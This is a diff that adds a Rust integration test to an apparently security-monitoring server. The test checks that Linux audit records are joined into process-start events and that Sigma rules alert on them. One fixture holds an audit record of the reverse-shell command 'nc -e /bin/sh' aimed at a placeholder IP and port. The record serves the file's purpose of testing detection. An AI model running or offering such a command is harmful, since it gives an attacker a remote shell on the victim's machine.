@@ -333,3 +333,125 @@ fn correlation_state_catches_up_after_a_crash() {
     assert_eq!(alert["entity"]["source.ip"], attacker, "{alert}");
     srv.stop();
 }
+
+/// The records of `arp -a` from OTRF Security-Datasets (Mordor), MIT licence:
+/// datasets/atomic/linux/discovery/host/sh_arp_cache, without its PROCTITLE record (and, as
+/// there, no EOE): nothing says the event is complete.
+const ARP: &str = r#"type=SYSCALL msg=audit(1604994496.155:92733): arch=c000003e syscall=59 success=yes exit=0 a0=558e251634a0 a1=558e25162a50 a2=558e25160800 a3=8 items=2 ppid=29002 pid=1631 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=104 comm="arp" exe="/usr/sbin/arp" key=(null)
+type=EXECVE msg=audit(1604994496.155:92733): argc=2 a0="arp" a1="-a"
+type=CWD msg=audit(1604994496.155:92733): cwd="/home/wardog"
+type=PATH msg=audit(1604994496.155:92733): item=0 name="/usr/sbin/arp" inode=13181 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
+type=PATH msg=audit(1604994496.155:92733): item=1 name="/lib64/ld-linux-x86-64.so.2" inode=29514 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
+"#;
+
+/// Linux audit records inside `sen serve`: the records of one kernel event are joined into one
+/// more event, on which `process_creation` rules match — over syslog at once (the records end
+/// with PROCTITLE and EOE), over `sen ingest` when the partition goes quiet; the records of events still open when the
+/// server stops are read again after the restart, so the joined event comes once and no record
+/// twice (ADR 0011).
+#[test]
+fn auditd_records_are_joined_into_process_starts() {
+    let dir = tempfile::tempdir().unwrap();
+    let cfg = dir.path().join("sen.toml");
+    // SigmaHQ's T1018 rule, when the corpus is there; the built-in packs hold the netcat rule.
+    let rule = common::corpus()
+        .map(|c| {
+            c.join("sigma/rules/rules/linux/process_creation/proc_creation_lnx_remote_system_discovery.yml")
+        })
+        .filter(|p| p.is_file());
+    let config = |idle_ms: u64| {
+        let rules =
+            rule.iter().map(|p| format!("{:?}", p.display().to_string())).collect::<Vec<_>>();
+        format!(
+            "version = 1\n[pipeline]\nauditd_join_idle_ms = {idle_ms}\n[detection]\nrules = [{}]\n",
+            rules.join(", ")
+        )
+    };
+    // First run: open events are never joined for being idle.
+    std::fs::write(&cfg, config(600_000)).unwrap();
+    let mut srv = Server::start(&dir.path().join("data"), &["--config", cfg.to_str().unwrap()]);
+
+    // audisp-syslog over TCP: joined as soon as the PROCTITLE record is read.
+    let netcat = [
+        "type=SYSCALL msg=audit(1764129609.100:5014): arch=c000003e syscall=59 success=yes exit=0 a0=55e1 a1=55e2 a2=55e3 a3=0 items=2 ppid=4500 pid=4501 auid=1000 uid=1000 gid=1000 euid=1000 tty=pts1 ses=7 comm=\"nc\" exe=\"/usr/bin/nc\" key=(null)",
+        "type=EXECVE msg=audit(1764129609.100:5014): argc=5 a0=\"nc\" a1=\"-e\" a2=\"/bin/sh\" a3=\"203.0.113.5\" a4=\"4444\"",
+        "type=CWD msg=audit(1764129609.100:5014): cwd=\"/tmp\"",
+        "type=PROCTITLE msg=audit(1764129609.100:5014): proctitle=6E63002D65",
+        "type=EOE msg=audit(1764129609.100:5014): ",
+    ];
+    let mut s = TcpStream::connect(srv.tcp).unwrap();
+    for l in netcat {
+        writeln!(s, "<14>Nov 26 04:00:09 web01 audispd: node=web01 {l}").unwrap();
+    }
+    drop(s);
+    srv.wait_count("event.dataset:\"auditd.event\"", 1, 30);
+    assert_eq!(srv.count("event.dataset:\"auditd.log\""), 5);
+    assert_eq!(
+        srv.count("event.dataset:\"auditd.event\" AND process.executable:\"/usr/bin/nc\" AND host.name:web01 AND process.working_directory:\"/tmp\""),
+        1
+    );
+    let deadline = Instant::now() + Duration::from_secs(30);
+    while !alert_titles(&srv).iter().any(|t| t == "Potential Netcat Reverse Shell Execution") {
+        assert!(Instant::now() < deadline, "no netcat alert: {:?}", alert_titles(&srv));
+        std::thread::sleep(Duration::from_millis(100));
+    }
+
+    // `sen ingest audit.log` without PROCTITLE or EOE records: the records are indexed, their
+    // event stays open (the partition has not been idle long enough) …
+    let log = dir.path().join("audit.log");
+    std::fs::write(&log, ARP).unwrap();
+    let out = Command::new(env!("CARGO_BIN_EXE_sen"))
+        .args(["ingest", "--server", &format!("http://{}", srv.http)])
+        .arg(&log)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    srv.wait_count("event.dataset:\"auditd.log\"", 5 + 5, 30);
+    std::thread::sleep(Duration::from_millis(600));
+    assert_eq!(srv.count("event.dataset:\"auditd.event\""), 1);
+    // … and after a restart with a short idle time, the replayed records are joined, once.
+    srv.stop();
+    std::fs::write(&cfg, config(200)).unwrap();
+    srv.spawn();
+    srv.wait_count("event.dataset:\"auditd.event\"", 2, 30);
+    std::thread::sleep(Duration::from_millis(1000));
+    assert_eq!(srv.count("event.dataset:\"auditd.event\""), 2);
+    assert_eq!(srv.count("event.dataset:\"auditd.log\""), 10, "no record indexed twice");
+    assert_eq!(
+        srv.count("event.dataset:\"auditd.event\" AND process.executable:\"/usr/sbin/arp\" AND process.command_line:\"arp -a\" AND event.type:start"),
+        1
+    );
+    // Importing the file again replaces its records and its joined event (same ids): the
+    // analyzer indexes 5 + 1 events, the index still holds one of each.
+    let indexed = |srv: &Server| {
+        let metrics = client().get(srv.url("/metrics")).send().unwrap().text().unwrap();
+        metrics
+            .lines()
+            .find(|l| l.starts_with("sen_analyzer_events_total"))
+            .and_then(|l| l.split_whitespace().last())
+            .and_then(|n| n.parse::<u64>().ok())
+            .unwrap_or(0)
+    };
+    let before = indexed(&srv);
+    let out = Command::new(env!("CARGO_BIN_EXE_sen"))
+        .args(["ingest", "--server", &format!("http://{}", srv.http)])
+        .arg(&log)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let deadline = Instant::now() + Duration::from_secs(30);
+    while indexed(&srv) < before + 6 {
+        assert!(Instant::now() < deadline, "re-import not indexed: {}", indexed(&srv) - before);
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    std::thread::sleep(Duration::from_millis(500));
+    assert_eq!(srv.count("event.dataset:\"auditd.log\""), 10);
+    assert_eq!(srv.count("event.dataset:\"auditd.event\""), 2);
+    if rule.is_some() {
+        let deadline = Instant::now() + Duration::from_secs(30);
+        while !alert_titles(&srv).iter().any(|t| t == "Linux Remote System Discovery") {
+            assert!(Instant::now() < deadline, "no T1018 alert: {:?}", alert_titles(&srv));
+            std::thread::sleep(Duration::from_millis(100));
+        }
+    }
+}
